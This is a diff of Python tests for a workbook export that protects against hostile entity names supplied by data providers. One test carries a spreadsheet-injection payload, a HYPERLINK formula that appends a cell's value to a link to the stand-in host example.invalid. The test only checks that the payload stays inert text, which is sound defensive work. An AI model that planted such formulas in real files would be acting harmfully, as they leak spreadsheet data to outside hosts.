@@ -640,10 +640,9 @@ def test_a_cleared_publish_publishes_only_the_build_its_gate_validated(demo, tmp
     assert _latest(work) == published
 
 
-def test_a_name_that_looks_like_a_formula_stays_text_in_the_workbook(demo, tmp_path):
-    """Entity names come from providers' files. openpyxl writes a string that starts with
-    "=" as a formula, so a business named =HYPERLINK(...) became a live link (or worse) in
-    the evaluators' workbook. It is written as text; the published CSV keeps it as delivered."""
+def _workbook_with_names(demo, tmp_path, names: list[str]):
+    """The umk workbook of a copy of the demo's publication whose first entities are named
+    `names`, as a provider could have delivered them; its sheet and its XML."""
     import shutil
     import zipfile
 
@@ -656,13 +655,29 @@ def test_a_name_that_looks_like_a_formula_stays_text_in_the_workbook(demo, tmp_p
     ranking = folder / "rankings_umk.csv"
     with ranking.open(newline="") as f:
         rows = list(csv.reader(f))
-    name = rows[0].index("entity_name")
-    formula = '=HYPERLINK("http://example.invalid/?"&A2,"open me")'
-    rows[1][name], rows[2][name] = formula, "=1+1"
+    column = rows[0].index("entity_name")
+    for row, name in zip(rows[1:], names):
+        row[column] = name
     with ranking.open("w", newline="") as f:
         csv.writer(f).writerows(rows)
     write_workbook(folder, "umk", tmp_path / "umk.xlsx")
     sheet = load_workbook(tmp_path / "umk.xlsx")["umk"]
-    cells = [sheet.cell(r, name + 1) for r in (2, 3)]
+    xml = zipfile.ZipFile(tmp_path / "umk.xlsx").read("xl/worksheets/sheet1.xml").decode()
+    return [sheet.cell(r, column + 1) for r in range(2, 2 + len(names))], xml
+
+
+def test_a_name_that_looks_like_a_formula_stays_text_in_the_workbook(demo, tmp_path):
+    """Entity names come from providers' files. openpyxl writes a string that starts with
+    "=" as a formula, so a business named =HYPERLINK(...) became a live link (or worse) in
+    the evaluators' workbook. It is written as text; the published CSV keeps it as delivered."""
+    formula = '=HYPERLINK("http://example.invalid/?"&A2,"open me")'
+    cells, xml = _workbook_with_names(demo, tmp_path, [formula, "=1+1"])
     assert [(c.value, c.data_type) for c in cells] == [(formula, "s"), ("=1+1", "s")]
-    assert "<f>" not in zipfile.ZipFile(tmp_path / "umk.xlsx").read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in xml
+
+
+def test_a_control_character_in_a_name_is_shown_not_a_failed_workbook(demo, tmp_path):
+    """A vertical tab or another control character pasted into a business name is no XML:
+    openpyxl refused the whole export (IllegalCharacterError). It is shown as its symbol."""
+    cells, _ = _workbook_with_names(demo, tmp_path, ["Toko\x0bMaju\x01", "Warung\tSari\nJaya"])
+    assert [c.value for c in cells] == ["Toko\u240bMaju\u2401", "Warung\tSari\nJaya"]
